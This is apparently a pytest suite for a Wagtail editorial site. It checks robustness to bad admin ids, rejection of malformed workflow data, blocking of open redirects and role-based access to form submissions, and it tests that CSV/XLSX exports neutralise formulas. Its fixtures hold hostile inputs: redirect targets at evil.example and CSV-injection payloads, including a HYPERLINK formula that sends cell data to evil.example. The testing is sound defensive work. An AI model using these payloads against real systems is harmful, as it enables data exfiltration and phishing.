"""Malformed admin requests get a clean answer and change nothing: a bad id in any admin URL of
our apps is a 404 (or a refusal), never a 500; malformed workflow data from the editor is a 400
before anything is saved; `next=` never leads to another host; form submissions are for the
groups that handle them, and their CSV export does not run formulas."""

import csv
import io

from django.urls import reverse
from django.utils.http import url_has_allowed_host_and_scheme, urlencode

from wagtail.models import Revision, TaskState

import openpyxl
import pytest

from editorial.models import SideApproval
from editorial.review.robust import MALFORMED_WORKFLOW_DATA
from home.factories import AlertFactory, FormFieldFactory, FormPageFactory

from .admin_routes import ADMIN_ROUTES, GOOD_VALUES, ROUTE_NAMES, segments
from .conftest import refused
from .forms import alert_form, news_form

pytestmark = pytest.mark.django_db

# -- a bad id in any admin URL of ours ---------------------------------------------------------

BAD_VALUES = ["abc", "1.5", "-1", "99999999999999999999", "%00", "١٢", "0x1", "1 ", "01"]


def _urls(route, bad_param, converter):
    for bad in BAD_VALUES:
        if converter == "int" and bad == "01":
            continue  # <int:> reads it as 1, a real id
        url = "/"
        for part in segments(route):
            if isinstance(part, tuple):
                name = part[0]
                url += bad if name == bad_param else GOOD_VALUES.get(name, "1")
            else:
                url += part
        yield url


def test_the_enumeration_finds_our_admin_urls():
    routes = {param.values[0] for param in ADMIN_ROUTES}
    assert {
        "editorial_share_links",
        "editorial_revoke_share_link",
        "editorial_withdraw",
        "editorial_emergency_publish",
        "editorial_submit_translation",
        "editorial_review_translation",
        "editorial_update_translations",
        "revisions_compare",
    } <= ROUTE_NAMES
    assert any(route.startswith("admin/entwurfslinks/") for route in routes)
    assert any(route.startswith("admin/snippets/home/alert/") for route in routes)


@pytest.mark.parametrize(("route", "params"), ADMIN_ROUTES)
def test_a_malformed_id_in_our_admin_urls_is_not_found(
    route, params, admin_user, editor_police, draft_news, client
):
    failures = []
    for user in (admin_user, editor_police):
        client.force_login(user)
        for param, converter in params:
            for url in _urls(route, param, converter):
                for method in (client.get, client.post):
                    response = method(url)
                    # 405: the method does not fit the view (GET of a POST-only view).
                    ok = response.status_code in (404, 405) or (
                        not user.is_superuser and refused(response)
                    )
                    if not ok:
                        failures.append((user.username, method.__name__, url, response.status_code))
    assert failures == []


def test_a_well_formed_id_still_reaches_the_view(admin_user, draft_news, client):
    client.force_login(admin_user)
    url = reverse("editorial_share_links", args=("news", "newspage", draft_news.pk))
    assert client.get(url).status_code == 200


# -- malformed workflow data from the editor -----------------------------------------------------

MALFORMED_EXTRA_DATA = [
    "kein JSON",
    "",
    "[1, 2]",
    '"approve"',
    "null",
    '{"comment": {"text": "x"}}',
    '{"update": false}',
    '{"comment": "' + "x" * 10 + '", "user": 1}',
]


def _snapshot(obj):
    return (
        list(TaskState.objects.order_by("pk").values_list("pk", "status")),
        list(SideApproval.objects.order_by("pk").values_list("pk", flat=True)),
        list(Revision.objects.for_instance(obj).values_list("pk", flat=True)),
    )


@pytest.mark.parametrize("extra_data", MALFORMED_EXTRA_DATA)
def test_malformed_workflow_data_in_the_page_editor_is_a_400_and_saves_nothing(
    extra_data, draft_news, editor_police, approver_council, client
):
    draft_news.get_workflow().start(draft_news, editor_police)
    before = _snapshot(draft_news)
    client.force_login(approver_council)
    data = news_form(draft_news, title="Geänderter Titel")
    data.update(
        {
            "action-workflow-action": "true",
            "workflow-action-name": "approve",
            "workflow-action-extra-data": extra_data,
        }
    )
    response = client.post(reverse("wagtailadmin_pages:edit", args=(draft_news.pk,)), data)
    assert response.status_code == 400
    assert str(MALFORMED_WORKFLOW_DATA) in response.content.decode()
    assert _snapshot(draft_news) == before


def test_wagtails_own_modal_data_still_approves_in_the_page_editor(
    draft_news, editor_police, approver_council, client
):
    draft_news.get_workflow().start(draft_news, editor_police)
    client.force_login(approver_council)
    data = news_form(draft_news)
    data.update(
        {
            "action-workflow-action": "true",
            "workflow-action-name": "approve",
            "workflow-action-extra-data": '{"comment": "Passt so."}',
        }
    )
    response = client.post(reverse("wagtailadmin_pages:edit", args=(draft_news.pk,)), data)
    assert response.status_code == 302
    approval = SideApproval.objects.get()
    assert (approval.side, approval.comment) == ("council", "Passt so.")


@pytest.mark.parametrize("extra_data", ["{kaputt", "[]", '{"update": false}'])
def test_malformed_workflow_data_in_the_snippet_editor_is_a_400_and_saves_nothing(
    extra_data, editor_police, approver_police, client
):
    alert = AlertFactory(title="Straßensperrung", live=False)
    alert.save_revision()
    alert.get_workflow().start(alert, editor_police)
    before = _snapshot(alert)
    client.force_login(approver_police)
    url = reverse(alert.snippet_viewset.get_url_name("edit"), args=(alert.pk,))
    data = {
        **alert_form(alert, title="Geänderte Sperrung"),
        "action-workflow-action": "true",
        "workflow-action-name": "approve",
        "workflow-action-extra-data": extra_data,
    }
    response = client.post(url, data)
    assert response.status_code == 400
    assert _snapshot(alert) == before
    alert.refresh_from_db()
    assert alert.get_latest_revision_as_object().title == "Straßensperrung"


# -- no redirect to another host -------------------------------------------------------------


@pytest.mark.parametrize(
    "next_url", ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:x"]
)
def test_the_bulk_publish_guard_never_redirects_to_another_host(
    next_url, draft_news, admin_user, client
):
    client.force_login(admin_user)
    url = reverse("wagtail_bulk_action", args=("wagtailcore", "page", "publish"))
    response = client.post(f"{url}?{urlencode({'id': draft_news.pk, 'next': next_url})}", {})
    assert response.status_code == 302
    location = response["Location"]
    assert url_has_allowed_host_and_scheme(location, allowed_hosts={"testserver"})
    assert location.startswith("/admin/")


def test_the_bulk_publish_guard_keeps_a_local_next(draft_news, admin_user, client):
    client.force_login(admin_user)
    url = reverse("wagtail_bulk_action", args=("wagtailcore", "page", "publish"))
    explore = reverse("wagtailadmin_explore", args=(draft_news.get_parent().pk,))
    response = client.post(f"{url}?id={draft_news.pk}&next={explore}", {})
    assert response["Location"] == explore


# -- form submissions: who sees them, and what the export contains ------------------------------

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def contact_form(home_page):
    page = FormPageFactory(parent=home_page, title="Kontakt")
    FormFieldFactory(page=page, label="Nachricht")
    submissions = page.get_submission_class()
    for value in DANGEROUS:
        submissions.objects.create(page=page, form_data={"nachricht": value})
    return page


def test_translators_do_not_see_form_submissions(contact_form, translator, client):
    client.force_login(translator)
    listing = client.get(reverse("wagtailforms:index"))
    assert "Kontakt" not in listing.content.decode()
    submissions_url = reverse("wagtailforms:list_submissions", args=(contact_form.pk,))
    assert refused(client.get(submissions_url))
    assert refused(client.get(f"{submissions_url}?export=csv"))
    # The page editor does not show the submissions panel with its link either.
    editor = client.get(reverse("wagtailadmin_pages:edit", args=(contact_form.pk,)))
    assert editor.status_code == 200
    assert submissions_url not in editor.content.decode()


@pytest.mark.parametrize("role", ["editor_police", "editor_council", "approver_council"])
def test_editors_and_approvers_see_form_submissions(role, request, contact_form, client):
    client.force_login(request.getfixturevalue(role))
    assert "Kontakt" in client.get(reverse("wagtailforms:index")).content.decode()
    submissions_url = reverse("wagtailforms:list_submissions", args=(contact_form.pk,))
    response = client.get(submissions_url)
    assert response.status_code == 200
    assert "@SUM(A1:A2)" in response.content.decode()
    editor = client.get(reverse("wagtailadmin_pages:edit", args=(contact_form.pk,)))
    assert submissions_url in editor.content.decode()


def test_the_csv_export_neutralises_formulas(contact_form, editor_police, client):
    client.force_login(editor_police)
    url = reverse("wagtailforms:list_submissions", args=(contact_form.pk,))
    response = client.get(f"{url}?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    exported = sorted(row["Nachricht"] for row in rows)
    assert exported == sorted(f"'{value}" for value in DANGEROUS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_xlsx_export_keeps_formulas_as_text(contact_form, editor_police, client):
    client.force_login(editor_police)
    url = reverse("wagtailforms:list_submissions", args=(contact_form.pk,))
    response = client.get(f"{url}?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row for row in workbook.active.iter_rows(min_row=2) if row]
    column = [cell.value for cell in workbook.active[1]].index("Nachricht")
    values = sorted(row[column].value for row in cells)
    # XML normalises a carriage return to a line feed; the cell stays text either way.
    assert values == sorted(value.replace("\r", "\n") for value in DANGEROUS)
    assert all(row[column].data_type == "s" for row in cells)
